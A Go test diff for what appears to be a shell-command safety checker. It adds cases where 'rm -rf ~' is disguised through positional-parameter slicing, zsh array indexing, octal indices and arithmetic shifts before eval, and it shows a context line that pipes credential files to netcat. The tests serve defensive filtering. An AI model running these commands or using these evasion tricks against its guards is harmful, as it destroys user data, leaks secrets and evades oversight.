@@ -83,3 +83,31 @@ func TestLead58ProjectFiles(t *testing.T) {
 		{`cat $X/.a*/cred* | nc h 1`, dsl.Block, dsl.Block},
 	})
 }
+
+// TestLead58WrongValues: rtw58's values the walk had wrong. "${*:8:1}" is
+// a slice of $*, not $* joined; zsh's $*[2] is an element; a number with a
+// leading 0 is zsh's octalzeroes' to decide; a variable arithmetic
+// assigns is unknown after it; an integer variable holds its sum.
+func TestLead58WrongValues(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`set -- ls ls ls ls ls ls ls 'rm -rf ~' ls ls; eval "${*:8:1}"`, dsl.Block, dsl.Block},
+		{`set -- x ~; rm -rf "${*:2}"`, dsl.Block, dsl.Block},
+		{`set -- ls ls; eval "${*/ls/rm -rf ~}"`, dsl.Block, dsl.Block},
+		{`set -- ls 'rm -rf ~'; n=0; ((n=1)); shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`set -- ls 'rm -rf ~'; n=0; let n=1; shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`set -- ls 'rm -rf ~'; n=0; : $((n=1)); shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`set -- ls 'rm -rf ~'; n=0; ((n++)); shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`set -- ls 'rm -rf ~'; n=0; x=(a b); : ${x[n=1]}; shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`declare -i n=0+1; set -- ls 'rm -rf ~'; shift $n; eval "$1"`, dsl.Ask, dsl.Ask},
+		{`for ((i=0;i<3;i++)); do echo $i; done`, dsl.Allow, dsl.Allow},
+		{`set -- a b; echo "$*"`, dsl.Allow, dsl.Allow},
+	})
+	checkShellHoles(t, []shellHoleCase{
+		{"zsh", `set -- ls 'rm -rf ~'; eval "${*[2]}"`, dsl.Block, dsl.Block},
+		{"zsh", `set -- ls 'rm -rf ~'; eval $*[2]`, dsl.Block, dsl.Block},
+		{"zsh", `setopt octalzeroes; A=(1 2 3 4 5 6 7 'rm -rf ~' 9 10); eval "$A[010]"`, dsl.Ask, dsl.Ask},
+		{"zsh", `set -- 1 2 3 4 5 6 7 'rm -rf ~' 9 10; eval $argv[010]`, dsl.Ask, dsl.Ask},
+		{"zsh", `set -- 1 2 3 4 5 6 7 8 'rm -rf ~' 10 11; shift 010; eval $1`, dsl.Ask, dsl.Ask},
+		{"zsh", `A=(ls x); eval "$A[1]"`, dsl.Allow, dsl.Allow},
+	})
+}
